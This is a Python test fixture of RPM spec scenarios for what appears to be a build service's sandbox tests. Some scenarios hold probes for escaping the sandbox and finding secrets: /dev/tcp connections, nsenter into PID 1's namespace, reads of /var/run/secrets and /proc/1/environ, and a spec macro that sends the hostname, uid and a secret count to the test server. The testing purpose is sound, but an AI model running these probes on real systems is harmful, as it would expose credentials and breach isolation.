"""The small packages that the end-to-end tests build, each of which shows one thing. None needs a compiler."""

from dataclasses import dataclass, field
from typing import Any

from tests.support.sources import SourceServer

TEMPLATE = """\
Name:           {name}
Version:        1.0
Release:        1%{{?dist}}
Summary:        A package that shows one thing
License:        MIT
BuildArch:      noarch
{tags}
%description
A package that shows one thing.

{sections}
%build
{build}

%install
mkdir -p %{{buildroot}}/usr/share
echo {name} > %{{buildroot}}/usr/share/{name}

%check
{check}

%files
/usr/share/{name}
"""

# %build as the untrusted code sees the network: through a connection, and by going back into the pod's namespace.
NETWORK = """\
exec 2>&1
say() {{ echo "PROBE $1: $2"; }}
timeout 10 bash -c 'exec 3<>/dev/tcp/{host}/{port}' && say connect open || say connect closed
nsenter --net=/proc/1/ns/net true && say nsenter entered || say nsenter refused
unshare --user --map-root-user nsenter --net=/proc/1/ns/net true && say nsenter-as-root entered || \
say nsenter-as-root refused
"""

LOOPBACK = """\
python3 - <<'END'
import socket
server = socket.create_server(("127.0.0.1", 0))
client = socket.create_connection(server.getsockname(), timeout=5)
server.accept()[0].sendall(b"hello")
print("PROBE loopback:", client.recv(5).decode())
END
"""

# Everything that could be a way to a token: mounts, the environment, and files of any process that can be read.
SECRETS = """\
exec 2>&1
ls -A /var/run/secrets /run/secrets | sed 's/^/PROBE secrets: /'
env | sed -n 's/=.*//; /COPR_\\|TOKEN\\|KUBERNETES/s/^/PROBE environment: /p'
cut -d' ' -f5 /proc/self/mountinfo | sed -n '/secret\\|token/s/^/PROBE mount: /p'
find / -xdev -name token -path '*copr*' | sed 's/^/PROBE file: /'
tr '\\0' '\\n' < /proc/1/environ | sed -n '/COPR_PLAN\\|TOKEN/s/^/PROBE pid1: /p'
echo PROBE done
"""


@dataclass(frozen=True)
class Scenario:
    """One CoprBuild. `options` are members of its spec."""

    name: str
    build: str = "true"
    check: str = "true"
    tags: str = ""
    sections: str = ""
    options: dict[str, Any] = field(default_factory=dict)

    @property
    def spec(self) -> str:
        """Text of the spec file."""
        return TEMPLATE.format(
            name=self.name, build=self.build, check=self.check, tags=self.tags, sections=self.sections
        )


BARE_CHROOT = "bare-1-x86_64"
"""A chroot whose image has rpmbuild but no dnf of any kind."""


def scenarios(sources: SourceServer) -> tuple[Scenario, ...]:
    """All of them; `sources` is what untrusted code tries to reach."""
    host, port = sources.address
    network = NETWORK.format(host=host, port=port)
    # Says where a macro ran: the host's name, who it was, how many secrets it saw, and what PID 1 is there.
    mark = (
        f"%(bash -c 'exec 3<>/dev/tcp/{host}/{port} && {{ "
        "echo GET /mark/$(hostname)/$(id -u)/$(ls -A /var/run/secrets | wc -l)/"
        "$(tr -c a-z. _ < /proc/1/cmdline) HTTP/1.0; echo; } >&3 "
        "&& cat <&3 >/dev/null'; echo 1)"
    )
    return (
        Scenario("fails", build="echo 'error: the flux capacitor is missing' >&2\nexit 3"),
        Scenario("greedy", build="tail /dev/zero", options={"memoryLimitMB": 256}),
        Scenario(
            "endless", build="trap 'echo got INT' INT\ntrap 'echo got TERM' TERM\nwhile :; do sleep 1; done",
            options={"timeout": 60},
        ),
        # rpm keeps signals from a package's scriptlet and from dnf until the scriptlet ends.
        Scenario("sticky", sections="%post\ntrap '' INT TERM\nsleep 600\n"),
        Scenario("stuck", tags="BuildRequires:  sticky\n", options={"timeout": 60, "afterBuild": "sticky"}),
        Scenario("homeless", options={"chroots": [BARE_CHROOT]}),
        Scenario("needy", tags="BuildRequires:  unobtainium-devel >= 3.1\n"),
        Scenario("offline", build=network, check=LOOPBACK),
        Scenario("online", build=network, check=LOOPBACK, options={"enableNet": True}),
        Scenario("macro", tags=f"%global where {mark}\nProvides:       mark(%{{where}})\n"),
        Scenario("curious", build=SECRETS, tags="%{lua: print('Provides: lua(ran)')}\n"),
    )  # fmt: skip
